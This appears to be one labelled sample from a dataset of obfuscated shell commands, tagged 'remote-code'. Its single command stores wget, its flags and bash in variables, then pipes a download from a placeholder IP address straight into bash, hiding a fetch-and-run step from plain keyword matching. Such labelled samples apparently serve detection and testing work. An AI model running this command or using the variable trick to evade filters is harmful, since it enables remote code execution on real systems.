# description: Holds wget, its flags and the interpreter in variables.
# family: remote-code
# obfuscated: yes
d=wget
o=-qO-
i=bash
$d $o http://203.0.113.20/x | $i
